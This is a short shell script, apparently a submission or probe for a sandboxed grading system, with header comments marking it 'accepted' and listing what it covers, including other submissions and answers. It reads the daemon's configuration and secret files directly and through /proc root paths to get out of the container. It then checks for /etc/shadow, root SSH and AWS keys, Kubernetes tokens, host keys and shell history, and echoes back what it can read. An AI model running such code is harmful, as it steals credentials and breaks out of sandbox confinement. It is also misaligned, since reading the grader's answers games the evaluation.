#| what = "Searches by name for the daemon's files, tokens and keys of the host with find and grep"
#| covers = ["configuration", "keys", "other submissions", "answers"]
#| verdict = ["accepted"]
got=
read -r line
for name in configuration log secret_file store_file; do
    path=$(printf '%s' "$line" | sed 's/.*"'$name'":"\([^"]*\)".*/\1/')
    said=$(cat "$path" 2> /dev/null | head -c 200)
    [ -z "$said" ] || got="$got; $name: $said"
    said=$(cat "/proc/self/root$path" "/proc/1/root$path" 2> /dev/null | head -c 200)
    [ -z "$said" ] || got="$got; $name through /proc: $said"
done
for path in /etc/shadow /etc/gshadow ~root/.ssh/id_rsa ~root/.netrc ~root/.aws/credentials ~root/.kube/config \
    /var/run/secrets/kubernetes.io/serviceaccount/token /run/secrets /etc/kubernetes/admin.conf /etc/machine-id \
    /etc/ssh/ssh_host_rsa_key /etc/ssl/private ~root/.bash_history ~root/.gitconfig /home; do
    if [ -d "$path" ]; then
        [ -z "$(ls -A "$path" 2> /dev/null)" ] || got="$got; listed $path"
    elif head -c 1 "$path" > /dev/null 2>&1; then
        got="$got; read $path"
    fi
done
echo "${got:-contained}"
